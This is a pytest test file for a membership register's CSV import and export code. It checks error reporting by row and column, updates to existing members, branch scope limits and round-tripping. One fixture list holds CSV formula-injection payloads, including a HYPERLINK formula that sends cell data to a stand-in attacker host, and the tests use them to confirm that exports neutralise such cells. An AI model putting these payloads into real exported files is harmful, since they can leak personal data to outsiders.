"""Register CSV: every problem reported by row and column; what is written reads back."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest

from grassroots.members import csvio
from grassroots.members.csvio import UnitRef

UNITS = {
    "national": UnitRef(1, "national", None),
    "hillford": UnitRef(3, "branch", 2),
    "moorside": UnitRef(4, "branch", 2),
    "hillford-east": UnitRef(5, "ward", 3),
    "north": UnitRef(2, "region", 1),
}
HEADER = "number,name,email,branch,ward,join_date,status,paid_up_to,rate_band,gender,birth_date\n"
TODAY = dt.date(2026, 1, 1)


def parse(body: str, **kw: object) -> csvio.ParseResult:
    return csvio.parse(HEADER + body, UNITS, today=TODAY, **kw)  # type: ignore[arg-type]


def test_a_clean_file_gives_every_row_and_no_errors() -> None:
    r = parse(
        "A1,Ann,ann@example.org,hillford,hillford-east,2020-01-02,full,2026-12-31,reduced,woman,1990-04-01\n"
        "A2,Bob,,moorside,,2021-05-06,provisional,,,,\n"
    )
    assert r.errors == [] and r.total == 2
    assert [m.number for m in r.rows] == ["A1", "A2"]
    assert (
        r.rows[0].ward_id == 5
        and r.rows[1].paid_up_to is None
        and r.rows[1].rate_band == "standard"
    )


def test_each_problem_names_its_row_column_and_what_is_wrong() -> None:
    r = parse(
        "A1,Ann,ann@example.org,hillford,,2020-01-02,full,,,,\n"  # row 2: fine
        "A2,Bob,,nowhere,,2020-13-01,full,,,,\n"  # row 3: branch, date
        "A1,Cat,not-an-email,north,,2020-01-01,member,,,,\n"  # row 4: repeat, email, region, status
    )
    got = [(e.row, e.column) for e in r.errors]
    assert got == [
        (3, "branch"),
        (3, "join_date"),
        (4, "number"),
        (4, "email"),
        (4, "branch"),
        (4, "status"),
    ]
    assert str(r.errors[0]) == "row 3, column branch: no unit with code 'nowhere'"
    assert r.errors[1].problem == "expected a date as YYYY-MM-DD, found '2020-13-01'"
    assert r.errors[2].problem == "A1 repeats row 2"
    assert r.bad_rows == 2 and len(r.rows) == 1


def test_a_missing_required_column_or_unknown_column_is_a_header_error() -> None:
    r = csvio.parse("number,name,colour\nA1,Ann,red\n", UNITS)
    assert not r.header_ok
    assert {(e.row, e.column) for e in r.errors} >= {
        (1, "colour"),
        (1, "branch"),
        (1, "join_date"),
        (1, "status"),
    }
    assert r.rows == []


def test_a_row_with_the_wrong_number_of_fields_is_reported() -> None:
    r = parse("A1,Ann\n")
    assert [(e.row, e.problem) for e in r.errors] == [(2, "expected 11 fields, found 2")]


def test_branches_out_of_the_importers_scope_are_refused() -> None:
    r = parse(
        "A1,Ann,,hillford,,2020-01-02,full,,,,\nA2,Bob,,moorside,,2020-01-02,full,,,,\n",
        allowed_branches={3},
    )
    assert [(e.row, e.column) for e in r.errors] == [(3, "branch")]
    assert r.columns == tuple(HEADER.strip().split(","))


# A1 is in Hillford's ward Hillford East; B2 in Moorside.
CURRENT = {
    "A1": csvio.Current(
        11, "Ann", "ann@example.org", 3, 5, dt.date(2020, 1, 2), "full", dt.date(2025, 12, 31),
        "standard", "woman", None,
    ),
    "B2": csvio.Current(
        12, "Bob", "", 4, None, dt.date(2019, 5, 6), "provisional", None, "standard", "", None,
    ),
}  # fmt: skip
MOVES = {("provisional", "full"), ("full", "lapsed"), ("provisional", "lapsed")}


def match(text: str, **kw: object) -> csvio.ParseResult:
    parsed = csvio.parse(text, UNITS, today=TODAY)
    return csvio.match_existing(parsed, CURRENT, UNITS, status_moves=MOVES, **kw)  # type: ignore[arg-type]


def test_a_known_number_updates_that_member_listing_only_the_columns_that_change() -> None:
    r = match(
        HEADER
        + "A1,Ann,ann@new.example,hillford,hillford-east,2020-01-02,full,2026-12-31,,woman,\n"
        + "C3,Cy,,hillford,,2021-01-01,full,,,,\n"
    )
    assert r.errors == [] and [n.number for n in r.rows] == ["C3"]
    [u] = r.updates
    assert (u.row.row, u.member_id) == (2, 11)
    assert u.changes == (
        ("email", "ann@example.org", "ann@new.example"),
        ("paid_up_to", "2025-12-31", "2026-12-31"),
    )
    assert u.values == {"email": "ann@new.example", "paid_up_to": dt.date(2026, 12, 31)}
    assert u.columns == ("email", "paid_up_to") and r.unchanged == 0


def test_columns_the_file_lacks_are_left_alone_and_a_blank_cell_clears() -> None:
    # no email, ward, rate_band or gender columns: those stay as they are
    r = match("number,name,branch,join_date,status,paid_up_to\nA1,Ann,hillford,2020-01-02,full,\n")
    [u] = r.updates
    assert u.changes == (("paid_up_to", "2025-12-31", ""),)
    assert u.values == {"paid_up_to": None}


def test_a_row_that_matches_the_register_changes_nothing_and_is_counted() -> None:
    r = match("number,name,branch,join_date,status\nA1,Ann,hillford,2020-01-02,full\n")
    assert r.updates == [] and r.rows == [] and r.errors == [] and r.unchanged == 1


def test_moving_a_member_to_another_branch_leaves_the_old_branchs_ward() -> None:
    r = match("number,name,branch,join_date,status\nA1,Ann,moorside,2020-01-02,full\n")
    [u] = r.updates
    assert u.changes == (("branch", "hillford", "moorside"), ("ward", "hillford-east", ""))
    assert u.values == {"branch_id": 4, "ward_id": None}


def test_an_update_outside_the_importers_branches_is_a_row_error() -> None:
    r = match(
        "number,name,branch,join_date,status\n"
        "B2,Bob,hillford,2019-05-06,provisional\n"  # moving Bob from Moorside into Hillford
        "A1,Annie,hillford,2020-01-02,full\n",
        allowed_branches={3},
    )
    assert [(e.row, e.column, e.problem) for e in r.errors] == [
        (2, "number", "B2 is a member of 'moorside', whose register you may not edit")
    ]
    assert [u.row.number for u in r.updates] == ["A1"] and r.bad_rows == 1


def test_an_import_confirms_or_lapses_but_other_status_changes_need_the_members_page() -> None:
    r = match(
        "number,name,branch,join_date,status\n"
        "B2,Bob,moorside,2019-05-06,full\n"  # provisional → full: a confirmation
        "A1,Ann,hillford,2020-01-02,expelled\n"  # full → expelled needs a reason
    )
    assert [u.changes for u in r.updates] == [(("status", "provisional", "full"),)]
    [e] = r.errors
    assert (e.row, e.column) == (3, "status")
    assert e.problem.startswith("A1 is full: an import does not change that to expelled")


def test_errors_from_both_passes_come_in_row_order() -> None:
    r = match(
        "number,name,branch,join_date,status\n"
        "A1,Ann,hillford,2020-01-02,suspended\n"
        "C3,Cy,nowhere,2021-01-01,full\n"
    )
    assert [(e.row, e.column) for e in r.errors] == [(2, "status"), (3, "branch")]


def test_a_ward_must_belong_to_the_rows_branch_and_dates_must_make_sense() -> None:
    r = parse("A1,Ann,,moorside,hillford-east,2027-01-02,full,,,,2028-01-01\n")
    assert [e.column for e in r.errors] == ["ward", "join_date", "birth_date"]


def test_blank_lines_are_not_rows() -> None:
    r = parse("\nA1,Ann,,hillford,,2020-01-02,full,,,,\n\n")
    assert r.total == 1 and r.errors == []


def test_an_empty_file_says_so() -> None:
    r = csvio.parse("", UNITS)
    assert r.errors[0].problem == "the file is empty: expected a header row"


def test_what_write_produces_parse_reads_back() -> None:
    rows = [
        {
            "number": "A1",
            "name": "Ann, Jr",
            "email": "",
            "branch": "hillford",
            "ward": None,
            "join_date": dt.date(2020, 1, 2),
            "status": "full",
            "paid_up_to": None,
            "rate_band": "standard",
            "gender": "",
            "birth_date": None,
        }
    ]
    r = csvio.parse(csvio.write(rows), UNITS, today=TODAY)
    assert r.errors == []
    assert r.rows[0].name == "Ann, Jr" and r.rows[0].join_date == dt.date(2020, 1, 2)


DATA = Path(__file__).resolve().parents[1] / "data" / "web"


def _file(name: str) -> csvio.ParseResult:
    return csvio.parse((DATA / name).read_text(encoding="utf-8"), UNITS, today=TODAY)


def test_the_valid_fixture_reads_with_quoting_and_every_column() -> None:
    r = _file("register_valid.csv")
    assert r.errors == [] and r.total == 3
    assert r.rows[2].name == 'Cat "Kit" Example, Jr'
    assert r.rows[1].birth_date == dt.date(2004, 2, 29)


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("register_dates_not_iso.csv", [(2, "join_date"), (3, "join_date")]),
        ("register_unknown_column.csv", [(1, "joined"), (1, "join_date")]),
        ("register_repeated_number.csv", [(3, "number")]),
        ("register_branch_not_a_branch.csv", [(2, "branch"), (3, "branch")]),
    ],
)
def test_each_bad_fixture_is_reported_at_its_row_and_column(
    name: str, expected: list[tuple[int, str]]
) -> None:
    assert [(e.row, e.column) for e in _file(name).errors] == expected


FORMULAS = ['=HYPERLINK("https://evil.example/?"&B2)', "+1+2", "-3+4", "@SUM(A1)", "\tx", "\r=1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_an_exported_cell_never_starts_a_spreadsheet_formula(value: str) -> None:
    assert csvio.cell(value) == "'" + value
    assert not csvio.cell(value).startswith(csvio.FORMULA_STARTS)


def test_plain_values_dates_and_blanks_export_as_they_are() -> None:
    assert csvio.export_row(["A1", "Ann O'Neil", dt.date(2020, 1, 2), None, 3]) == [
        "A1",
        "Ann O'Neil",
        "2020-01-02",
        "",
        "3",
    ]


def test_a_formula_like_name_is_neutralised_on_export_and_imports_back_unchanged() -> None:
    rows = [
        {
            "number": f"A{i}",
            "name": name,
            "branch": "hillford",
            "join_date": dt.date(2020, 1, 2),
            "status": "full",
            "gender": "-",
        }
        for i, name in enumerate(["=1+1", "@cmd", "+44 name", "'=kept", "''-x", "it's"])
    ]
    text = csvio.write(rows)
    for cells in csv.reader(io.StringIO(text, newline="")):
        assert not any(c.startswith(csvio.FORMULA_STARTS) for c in cells), cells
    r = csvio.parse(text, UNITS, today=TODAY)
    assert r.errors == []
    assert [m.name for m in r.rows] == ["=1+1", "@cmd", "+44 name", "'=kept", "''-x", "it's"]
    assert {m.gender for m in r.rows} == {"-"}
